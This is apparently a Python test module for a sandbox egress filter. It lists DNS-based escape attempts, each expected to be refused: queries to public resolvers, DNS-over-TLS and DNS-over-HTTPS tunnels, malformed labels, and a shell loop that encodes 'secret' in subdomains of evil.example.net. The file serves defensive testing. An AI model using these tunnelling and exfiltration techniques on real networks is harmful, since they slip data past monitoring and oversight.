"""Attempts by question: names as a way out, by the resolver that there is and by those that there are elsewhere."""

import struct
from typing import Any

from tests.egress.attempts import Attempt, Control, Row, connect, get, shell, talk, text
from tests.egress.frames import question
from tests.egress.zone import OTHER, WEB

RESOLVERS = ("172.16.0.1", "1.1.1.1", "8.8.8.8", "9.9.9.9")
KINDS = {"a": 1, "ns": 2, "cname": 5, "null": 10, "mx": 15, "txt": 16, "aaaa": 28, "srv": 33, "any": 255, "https": 65}
A_LONG = ".".join(["x" * 63] * 3 + ["t", "evil.example.net"])
REFUSED = ("policy", "bad_name", "bad_request")


def questions() -> list[Attempt]:
    """What nobody may ask, asked of everybody."""
    made = []
    for resolver in RESOLVERS:
        name = f"to-{resolver.replace('.', '-')}.evil.example.net"
        row = Row(("policy",), "dns", name=name)
        made.append(Attempt(f"name-udp-{resolver}", *_ask(resolver, question(name)), row))
        made.append(Attempt(f"name-tcp-{resolver}", *_ask_tcp(resolver, question(name)), row))
    for kind, number in KINDS.items():
        name = f"kind-{kind}.evil.example.net"
        made.append(
            Attempt(f"name-kind-{kind}", *_ask("8.8.8.8", question(name, number)), Row(("policy",), "dns", name=name))
        )
    return made


def tunnels() -> list[Attempt]:
    """Data in names."""
    made = [
        Attempt("name-long", *_ask("8.8.8.8", question(A_LONG)), Row(REFUSED, "dns")),
        Attempt("name-flood", *shell(_MANY), Row(("policy", "too_fast"), "dns"), is_quiet=True),
        Attempt(
            "name-below-an-allowed-one", *_ask("172.16.0.1", question("data.web.example.com")), Row(("policy",), "dns")
        ),
        Attempt(
            "name-suffix", *_ask("172.16.0.1", question("web.example.com.evil.example.net")), Row(("policy",), "dns")
        ),
        Attempt("name-prefix", *_ask("172.16.0.1", question("notweb.example.com")), Row(("policy",), "dns")),
        Attempt("name-above-a-wildcard", *_ask("172.16.0.1", question("w.example.com")), Row(("policy",), "dns")),
        Attempt("name-number", *_ask("172.16.0.1", question("2852039166")), Row(REFUSED, "dns")),
        Attempt("name-address", *_ask("172.16.0.1", question("169.254.169.254")), Row(REFUSED, "dns")),
        Attempt(
            "name-getaddrinfo",
            *shell("getent ahosts evil.example.net"),
            Row(("policy",), "dns", name="evil.example.net"),
        ),
        Attempt("name-edns", *_ask("8.8.8.8", _EDNS), Row(("policy",), "dns", name="edns.evil.example.net")),
    ]
    for called, labels in {
        "dot-in-label": b"\x0bweb.example\3com\0",
        "nul-in-label": b"\3web\7example\4com\0\0",
        "eight-bit": b"\4\xff\xfe\xfd\xfc\4evil\7example\3net\0",
        "space": b"\5a b c\4evil\7example\3net\0",
    }.items():
        made.append(Attempt(f"name-{called}", *_ask("172.16.0.1", question(labels)), Row(REFUSED, "dns")))
    return made


def encrypted() -> list[Attempt]:
    """Resolvers that hide the question."""
    doh = get("doh.example.com", "/dns-query?dns=q80BAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB")
    hello: dict[str, Any] = {"request": doh}
    return [
        Attempt(
            "dot", "tls", {"sni": None, "request": "", "at": ["1.1.1.1", 853]}, Row(("policy", "no_sni"), port=853)
        ),
        Attempt(
            "dot-named",
            "tls",
            {"sni": "doh.example.com", "request": "", "at": ["9.9.9.9", 853]},
            Row(("policy",), port=853),
        ),
        Attempt(
            "dot-allowed-name",
            "tls",
            {"sni": "web.example.com", "request": "", "at": ["web.example.com", 853]},
            Row(("policy",), port=853),
        ),
        Attempt("dot-connect", *talk(connect("1.1.1.1:853")), Row(("policy",), "connect", port=853)),
        Attempt(
            "doh-literal",
            "tls",
            {**hello, "sni": None, "at": ["1.1.1.1", 443]},
            Row(("no_sni",), address="1.1.1.1", port=443),
        ),
        Attempt(
            "doh-named",
            "tls",
            {**hello, "sni": "doh.example.com", "at": ["1.1.1.1", 443]},
            Row(("policy",), name="doh.example.com"),
        ),
        Attempt(
            "doh-connect", *talk(connect("doh.example.com:443")), Row(("policy",), "connect", name="doh.example.com")
        ),
        Attempt("doh-connect-literal", *talk(connect("1.1.1.1:443")), Row(("policy",), "connect", address="1.1.1.1")),
        Attempt("doh-plain", *talk(doh, at=("1.1.1.1", 80)), Row(("policy",), "http")),
        Attempt("dns-through-connect", *talk(connect("8.8.8.8:53")), Row(("policy",), "connect", port=53)),
        Attempt("dns-port-of-allowed-name", *talk(connect("web.example.com:53")), Row(("policy",), "connect", port=53)),
        Attempt("dns-open", *talk(connect("8.8.8.8:53")), Row(("policy",), "connect", port=53), "open"),
        Attempt("dot-open", *talk(connect("1.1.1.1:853")), Row(("policy",), "connect", port=853), "open"),
        Attempt("mail-open", *talk(connect(f"{OTHER}:25")), Row(("policy",), "connect", port=25), "open"),
        Attempt("mail-direct-open", *talk("EHLO x\r\n", at=(WEB, 25)), Row(("policy",), "tcp", port=25), "open"),
    ]


def controls() -> list[Control]:
    """Names that are allowed have an address, from where no real one is."""
    where = "[[ $(getent ahostsv4 {} | head -1) == 198.1[89].* ]] && echo from the range"
    return [
        Control("name-allowed", *shell(where.format("web.example.com")), heard="from the range"),
        Control("name-wildcard", *shell(where.format("a.w.example.com")), heard="from the range"),
        Control("name-capitals", *shell(where.format("WEB.Example.COM")), heard="from the range"),
        Control("name-open", *shell(where.format("anything.example.org")), heard="from the range", policy="open"),
    ]


_EDNS = (
    question("edns.evil.example.net")[:11]
    + b"\1"
    + question("edns.evil.example.net")[12:]
    + (b"\0" + struct.pack("!HHIH", 41, 4096, 0, 4 + 900) + struct.pack("!HH", 65_001, 900) + bytes(900))
)
_MANY = "for n in $(seq 40); do getent ahosts $n-c2VjcmV0.evil.example.net; done; exit 0"


def _ask(resolver: str, packet: bytes) -> tuple[str, dict[str, Any]]:
    return "datagram", {"at": [resolver, 53], "data": text(packet)}


def _ask_tcp(resolver: str, packet: bytes) -> tuple[str, dict[str, Any]]:
    return "question", {"at": [resolver, 53], "data": text(struct.pack("!H", len(packet)) + packet)}


ALL = (questions, tunnels, encrypted)
